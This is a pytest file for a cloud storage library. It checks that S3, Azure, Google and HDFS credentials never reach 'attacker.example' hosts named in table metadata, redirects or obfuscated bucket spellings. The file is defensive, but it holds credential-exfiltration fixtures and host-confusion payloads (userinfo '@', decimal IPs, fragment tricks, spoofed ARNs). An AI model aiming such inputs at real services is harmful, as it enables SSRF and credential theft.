"""Credentials go to whom they are for: a host that metadata names, and no setting, is sent none."""

from __future__ import annotations

import json
import os
import re
import socket
import time
from collections.abc import Iterator, Mapping
from contextlib import suppress
from importlib import import_module
from pathlib import Path
from types import MappingProxyType
from typing import Any, NamedTuple

import pytest
import requests
from azure.core.credentials import AccessToken
from azure.identity import DefaultAzureCredential

from icecomb.format.errors import IcecombError
from icecomb.format.storage.delegation_token import DelegationToken, token_file
from icecomb.format.storage.file_io import FileIO
from icecomb.format.storage.object_store.azure_settings import AzureSettings, azure_signer
from icecomb.format.storage.object_store.google_settings import GoogleSettings, google_signer
from tests.peers.google_key import write_key_file
from tests.peers.listener import Answer, Listener
from tests.rings import sampled

MARKER = "c2VjcmV0"
TOKEN = token_file(DelegationToken(b"id", MARKER.encode(), "10.0.0.1:8020"), "WEBHDFS delegation")


class Case(NamedTuple):
    """A credential, and somebody else's location; `{port}` is that of the listener.

    Attributes:
        settings: What the credential is set by.
        location: A location that metadata may have.
        naming: Settings that name the location's host.
        mark: What a request with the credential has.
        variables: Variables of the environment; `{tokens}` is a token file.
    """

    settings: dict[str, str]
    location: str
    naming: dict[str, str]
    mark: str
    variables: Mapping[str, str] = MappingProxyType({})


LAKE = {"fs.defaultFS": "hdfs://10.0.0.1:8020"}
WEB = "webhdfs://attacker.example:{port}/x"
HDFS = {
    "hdfs.delegation-token": Case(
        {**LAKE, "hdfs.delegation-token": MARKER},
        WEB,
        {"mapreduce.job.hdfs-servers": WEB},
        "delegation=",
    ),
    "hdfs.delegation-token alone": Case(
        {"hdfs.delegation-token": MARKER}, WEB, {"warehouse": WEB}, "delegation="
    ),
    "token file": Case(
        {"hadoop.security.authentication": "kerberos"},
        WEB,
        {"fs.defaultFS": WEB},
        "delegation=",
        {"HADOOP_TOKEN_FILE_LOCATION": "{tokens}"},
    ),
}
HOST = "prodlake.attacker.example:{port}"
BLOB = f"abfs://box@{HOST}/x"
KEY = "bWFya2Vy"
PLAIN = {"adls.blob-storage-scheme": "http", "fs.azure.always.use.https": "false"}
AZURE = {
    name: Case({**PLAIN, **settings}, BLOB, naming, mark, variables)
    for name, settings, mark, naming, variables in (
        ("adls.token", {"adls.token": MARKER}, MARKER, {"warehouse": BLOB}, {}),
        (
            "adls.sas-token",
            {"adls.sas-token": f"sig={MARKER}"},
            f"sig={MARKER}",
            {f"adls.sas-token.{HOST}": f"sig={MARKER}"},
            {},
        ),
        (
            "adls.sas-token of an account",
            {"adls.sas-token.prodlake": f"sig={MARKER}"},
            f"sig={MARKER}",
            {"adls.account-host": HOST},
            {},
        ),
        (
            "adls.account-key",
            {"adls.account-key": KEY},
            "Authorization: SharedKey",
            {"fs.azure.account.auth.type." + HOST: "SharedKey"},
            {},
        ),
        (
            "adls.connection-string",
            {"adls.connection-string.prodlake": f"AccountName=prodlake;AccountKey={KEY}"},
            "Authorization: SharedKey",
            {"fs.defaultFS": BLOB},
            {},
        ),
        (
            "fs.azure.account.key",
            {"fs.azure.account.key.prodlake.dfs.core.windows.net": KEY, "adls.client-id": "me"},
            "Authorization: SharedKey",
            {f"fs.azure.account.key.{HOST}": KEY},
            {},
        ),
        (
            "fs.azure.sas.fixed.token",
            {"fs.azure.sas.fixed.token": f"sig={MARKER}"},
            f"sig={MARKER}",
            {f"fs.azure.sas.box.{HOST}": f"sig={MARKER}"},
            {},
        ),
        (
            "AZURE_STORAGE_KEY",
            {},
            "Authorization: SharedKey",
            {"warehouse": BLOB},
            {"AZURE_STORAGE_KEY": KEY},
        ),
        (
            "azure-identity",
            {},
            f"Authorization: Bearer {MARKER}",
            {"warehouse": BLOB},
            {},
        ),
    )
}
CASES = [pytest.param(case, id=name) for name, case in {**HDFS, **AZURE}.items()]


@pytest.fixture
def listener(monkeypatch: pytest.MonkeyPatch) -> Iterator[Listener]:
    """Whoever the hosts below `attacker.example` belong to."""
    missing = {"exception": "FileNotFoundException", "message": "x"}
    answer = json.dumps({"RemoteException": missing}).encode()
    found = Listener(lambda *_: (404, {"Content-Type": "application/json"}, answer))
    resolve = socket.getaddrinfo

    def here(host: Any, port: Any, *others: Any, **more: Any) -> Any:
        is_theirs = str(host).endswith("attacker.example")
        return resolve("127.0.0.1" if is_theirs else host, port, *others, **more)

    monkeypatch.setattr(socket, "getaddrinfo", here)
    yield found
    found.close()


def sent(case: Case, listener: Listener, naming: Mapping[str, str]) -> str:
    """Everything that the host is sent."""
    settings = {**case.settings, **naming, "io.object-store.max-attempts": "1"}
    given = {key: value.format(port=listener.port) for key, value in settings.items()}
    io = FileIO({key.format(port=listener.port): value for key, value in given.items()})
    location = case.location.format(port=listener.port)
    for ask in (io.read, io.size, lambda each: [*io.list(each)], io.delete):
        with suppress(IcecombError):
            ask(location)
    io.close()
    return "\n".join(listener.requests)


@pytest.mark.parametrize("case", CASES)
def test_a_host_gets_a_credential_only_if_a_setting_names_it(
    case: Case, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(DefaultAzureCredential, "get_token", lambda *_: AccessToken(MARKER, 9**20))
    tokens = tmp_path / "tokens"
    tokens.write_bytes(TOKEN)
    for name, value in case.variables.items():
        monkeypatch.setenv(name, value.format(tokens=tokens))
    text = sent(case, listener, {})
    assert case.mark not in text
    assert MARKER not in text
    assert "authorization" not in text.lower()
    assert case.mark in sent(case, listener, case.naming)


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The hosts that are looked for; none is found."""
    found: list[str] = []

    def nowhere(host: Any, *_: Any, **__: Any) -> Any:
        found.append(str(host))
        raise socket.gaierror(host)

    monkeypatch.setattr(socket, "getaddrinfo", nowhere)
    return found


class Given(NamedTuple):
    """A credential of S3 or Google; `{giver}` is the address of who gives it, `{files}` a folder.

    Attributes:
        mark: What a request with the credential has; empty if nothing of that kind is sent.
        files: Texts of files by name.
        asks: What who gives the credential is sent.
    """

    settings: dict[str, str]
    mark: str
    variables: Mapping[str, str] = MappingProxyType({})
    files: Mapping[str, str] = MappingProxyType({})
    asks: str = ""


SIGNED = f"Credential={MARKER}/"
PROGRAM = json.dumps({"Version": 1, "AccessKeyId": MARKER, "SecretAccessKey": "s"})
STATIC = {"s3.access-key-id": MARKER, "s3.secret-access-key": "s"}
GIVEN = {
    "s3 keys": Given(STATIC, SIGNED),
    "s3 session token": Given(
        {**STATIC, "s3.session-token": f"of-{MARKER}"}, f"X-Amz-Security-Token: of-{MARKER}"
    ),
    "s3 keys of Hadoop": Given(
        {"fs.s3a.bucket.box.access.key": MARKER, "fs.s3a.bucket.box.secret.key": "s"}, SIGNED
    ),
    "s3 environment": Given(
        {}, SIGNED, {"AWS_ACCESS_KEY_ID": MARKER, "AWS_SECRET_ACCESS_KEY": "s"}
    ),
    "s3 profile": Given(
        {"s3.profile-name": "team"},
        SIGNED,
        {"AWS_SHARED_CREDENTIALS_FILE": "{files}/keys"},
        {"keys": f"[team]\naws_access_key_id = {MARKER}\naws_secret_access_key = s\n"},
    ),
    "s3 program of a profile": Given(
        {"s3.profile-name": "team"},
        SIGNED,
        {"AWS_CONFIG_FILE": "{files}/config"},
        {
            "config": "[profile team]\ncredential_process = cat {files}/program\n",
            "program": PROGRAM,
        },
    ),
    "s3 machine": Given(
        {},
        SIGNED,
        {"AWS_EC2_METADATA_SERVICE_ENDPOINT": "http://{giver}/", "AWS_EC2_METADATA_DISABLED": ""},
        asks="latest",
    ),
    "s3 container": Given(
        {},
        SIGNED,
        {
            "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://{giver}/keys",
            "AWS_CONTAINER_AUTHORIZATION_TOKEN": f"pod-{MARKER}",
        },
        asks=f"pod-{MARKER}",
    ),
    "s3 role": Given(
        {
            "s3.access-key-id": "mine",
            "s3.secret-access-key": "s",
            "s3.role-arn": "arn:aws:iam::123456789012:role/reader",
            "fs.s3a.assumed.role.sts.endpoint": "http://{giver}/sts",
        },
        SIGNED,
        asks="Credential=mine/",
    ),
    "s3 anonymous": Given(
        {"s3.anonymous": "true", **STATIC},
        "",
        {"AWS_ACCESS_KEY_ID": MARKER, "AWS_SECRET_ACCESS_KEY": "s"},
    ),
    "google token": Given({"gcs.oauth2.token": MARKER}, f"Bearer {MARKER}"),
    "google key file": Given(
        {"fs.gs.auth.service.account.json.keyfile": "{files}/key.json"},
        f"Bearer {MARKER}",
        asks="assertion=",
    ),
    "google default": Given(
        {},
        f"Bearer {MARKER}",
        {"GOOGLE_APPLICATION_CREDENTIALS": "{files}/key.json"},
        asks="assertion=",
    ),
    "google machine": Given(
        {},
        f"Bearer {MARKER}",
        {"GCE_METADATA_IP": "{giver}"},
        asks="computeMetadata",
    ),
    "google anonymous": Given(
        {"gcs.no-auth": "true", "gcs.oauth2.token": MARKER},
        "",
        {"GOOGLE_APPLICATION_CREDENTIALS": "{files}/key.json"},
    ),
}
HOSTS = ("box.attacker.example", "attacker.example:{port}", "me:word@attacker.example:{port}")
"""What may stand for a bucket in a table's path; `{port}` is that of somebody else."""


def giver_of_keys(_: str, path: str) -> Answer:
    """Answer as machines, containers and STS of Amazon, and machines and logins of Google."""
    end = "2099-01-01T00:00:00Z"
    keys = {"AccessKeyId": MARKER, "SecretAccessKey": "s", "Token": "t", "Expiration": end}
    token = {"access_token": MARKER, "token_type": "Bearer", "expires_in": 3600}
    texts = {
        "/latest/api/token": "t",
        "/latest/meta-data/iam/security-credentials/": "role",
        "/latest/meta-data/iam/security-credentials/role": json.dumps({**keys, "Code": "Success"}),
        "/keys": json.dumps(keys),
        "/token": json.dumps(token),
        "/": "",
        "/computeMetadata/v1/project/project-id": "p",
        "/computeMetadata/v1/instance/service-accounts/default/": '{"email": "e"}',
        "/computeMetadata/v1/instance/service-accounts/default/token": json.dumps(token),
        "/sts": "<AssumeRoleResponse><AssumeRoleResult><Credentials>"
        f"<AccessKeyId>{MARKER}</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t"
        f"</SessionToken><Expiration>{end}</Expiration></Credentials></AssumeRoleResult>"
        "</AssumeRoleResponse>",
    }
    text = texts.get(path.partition("?")[0])
    headers = {"Metadata-Flavor": "Google", "Content-Type": "application/json"}
    return (404, {}, b"") if text is None else (200, headers, text.encode())


def elsewhere(to: str) -> Iterator[Answer]:
    """Yield what sends a client to another host, or tells it of one."""
    for status in (301, 302, 303, 307, 308):
        yield status, {"Location": f"http://{to}/x"}, b""
    for status, code, region in (
        (301, "PermanentRedirect", "eu-west-1"),
        (307, "TemporaryRedirect", f"{to}/"),
        (400, "AuthorizationHeaderMalformed", f"x@{to}#"),
    ):
        body = (
            f"<Error><Code>{code}</Code><Endpoint>{to}</Endpoint><Region>{region}</Region></Error>"
        )
        yield status, {"x-amz-bucket-region": region, "Location": f"http://{to}/x"}, body.encode()


@pytest.fixture
def others() -> Iterator[dict[str, Listener]]:
    """The configured store, who gives credentials, and somebody else."""
    found = {name: Listener() for name in ("own", "giver", "thief")}
    yield found
    for each in found.values():
        each.close()


@pytest.fixture
def nobody_s(monkeypatch: pytest.MonkeyPatch, others: dict[str, Listener], tmp_path: Path) -> None:
    """No credentials of this machine; all hosts are somebody else's but `own.store`.

    Google's library asks one more, whose name it keeps from when it was imported.
    """
    import_module("google.auth.compute_engine")
    for name in os.environ:
        if name.startswith(("AWS_", "GOOGLE_", "GCE_", "CLOUDSDK_")) or name.endswith("proxy"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    for name in ("AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE", "CLOUDSDK_CONFIG"):
        monkeypatch.setenv(name, str(tmp_path / "none"))
    resolve = socket.getaddrinfo
    own, giver, thief = (others[each].port for each in ("own", "giver", "thief"))

    def here(host: Any, port: Any, *more: Any, **named: Any) -> Any:
        is_own = str(host).endswith("own.store") or (host == "127.0.0.1" and port in {own, giver})
        there = giver if host == "metadata.google.internal" else port if is_own else thief
        return resolve("127.0.0.1", there, *more, **named)

    monkeypatch.setattr(socket, "getaddrinfo", here)


@pytest.mark.usefixtures("nobody_s")
@pytest.mark.gate("boto3 takes a third of a second to open a bucket")
@pytest.mark.parametrize("name", sampled(GIVEN, keep=5))
def test_only_the_configured_store_gets_a_credential(
    name: str, others: dict[str, Listener], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given, kind = GIVEN[name], name.partition(" ")[0]
    own, giver, thief = (others[each] for each in ("own", "giver", "thief"))
    words = {"giver": giver.address, "files": tmp_path, "port": thief.port}
    write_key_file(tmp_path / "key.json", f"http://{giver.address}/token")
    for file, text in given.files.items():
        (tmp_path / file).write_text(text.replace("{files}", str(tmp_path)))
    for variable, value in given.variables.items():
        monkeypatch.setenv(variable, value.format(**words))
    settings = {key: value.format(**words) for key, value in given.settings.items()}
    settings |= {
        "s3.endpoint": f"http://own.store:{own.port}", "s3.region": "us-east-1",
        "gcs.service.host": f"http://own.store:{own.port}", "io.object-store.max-attempts": "1",
    }  # fmt: skip
    scheme = {"s3": "s3", "google": "gs"}[kind]

    def ask(bucket: str) -> None:
        for call in (io.read, lambda at: io.create(at, b"rows"), lambda at: [*io.list(at)]):
            with suppress(IcecombError):
                call(f"{scheme}://{bucket}/x")

    giver.answer = giver_of_keys
    io = FileIO(settings)
    ask("box")
    text = "\n".join(own.requests)
    assert given.mark in text
    assert bool(given.mark) == ("authorization" in text.lower())
    for answer in elsewhere(f"attacker.example:{thief.port}"):
        own.answer = lambda *_, answer=answer: answer
        ask("box")
    own.answer = lambda *_: (404, {}, b"")
    for host in HOSTS:
        ask(host.format(**words))
    io.close()
    assert given.asks in "\n".join(giver.requests)
    # whoever gives the credential may send elsewhere, too
    giver.answer = lambda *_: (307, {"Location": f"http://attacker.example:{thief.port}/x"}, b"")
    io = FileIO(settings)
    with suppress(IcecombError):
        io.read(f"{scheme}://box/x")
    io.close()
    assert thief.requests == []


SPELLINGS = (
    "{}", "{}@attacker.example", "attacker.example@{}", "attacker.example#.{}", "attacker.example?.{}",
    "attacker.example\\.{}", "attacker.example:443", "2130706433", "2130706433:443#.{}", "[::1]",
    "attacker.example%2f.{}", "{}.attacker.example", "arn:aws:s3:attacker.example:1:accesspoint:x",
    "arn:aws:s3:eu-west-1:123456789012:accesspoint:attacker",
)  # fmt: skip
"""What may stand in a location for a bucket or a host; `{}` is a right one."""
STORES = {
    "s3": ("s3://{}/x", "bucket", r"(.+\.)?amazonaws\.com", {}),
    "s3 with an endpoint": ("s3://{}/x", "bucket", r"(.+\.)?own\.store", {"s3.endpoint": "https://own.store"}),
    "google": ("gs://{}/x", "bucket", r"storage\.googleapis\.com", {}),
    "azure": ("abfss://box@{}/x", "a.dfs.core.windows.net", r"a\.blob\.core\.windows\.net", {}),
    "azure with hosts": (
        "abfss://box@{}/x", "a.blob.own.store", r"[a-z0-9]+\.blob\.own\.store",
        {"adls.blob-storage-authority": ".blob.own.store"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("store", STORES)
def test_a_bucket_names_no_host(store: str, asked: list[str]) -> None:
    location, right, hosts, more = STORES[store]
    keys = {
        "s3.access-key-id": "id", "s3.secret-access-key": MARKER, "s3.session-token": MARKER,
        "gcs.oauth2.token": MARKER, "adls.token": MARKER, "s3.region": "eu-west-1",
        "io.object-store.max-attempts": "1",
    }  # fmt: skip
    io = FileIO({**keys, **more})
    # boto3 takes a third of a second to open a bucket
    for spelling in SPELLINGS if "s3" not in store else SPELLINGS[-1:]:
        with suppress(IcecombError):
            io.read(location.format(spelling.format(right)))
    io.close()
    assert asked
    assert [host for host in asked if not re.fullmatch(hosts, host)] == []


@pytest.mark.parametrize("store", ["azure", "google"])
def test_who_gives_tokens_gets_no_login_of_netrc_and_no_cookie(
    store: str, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "netrc").write_text(f"default login me password {MARKER}")
    monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
    uri = f"http://{listener.address}/token"
    # so short that it is renewed for each request
    token = {"access_token": "t", "token_type": "Bearer", "resource": "r", "expires_in": 1}
    answer = json.dumps({**token, "expires_on": str(int(time.time()) + 1)}).encode()
    kind = {"Content-Type": "application/json", "Set-Cookie": "kept=1"}
    listener.answer = lambda *_: (200, kind, answer)
    if store == "azure":
        monkeypatch.setenv("IDENTITY_ENDPOINT", uri)
        monkeypatch.setenv("IDENTITY_HEADER", "x")
        signer = azure_signer(AzureSettings(account="a", managed=True))
    else:
        key_file = write_key_file(tmp_path / "key.json", uri)
        signer = google_signer(GoogleSettings(key_file=key_file))
    for _ in range(2):
        signer(requests.Request("GET", "https://a.invalid/c").prepare())
    signer.close()
    assert len(listener.requests) >= 2
    assert [text for text in listener.requests if "Authorization:" in text] == []
    assert [text for text in listener.requests if "Cookie:" in text] == []
